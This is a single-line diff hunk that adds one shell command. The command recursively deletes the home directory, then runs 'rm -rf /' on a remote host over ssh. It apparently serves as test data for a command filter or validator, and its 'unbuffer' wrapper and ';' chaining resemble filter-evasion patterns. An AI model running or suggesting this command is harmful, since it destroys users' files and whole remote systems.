@@ -1,0 +1,1 @@
+unbuffer rm -rf ~; ssh -p 22 host rm -rf /
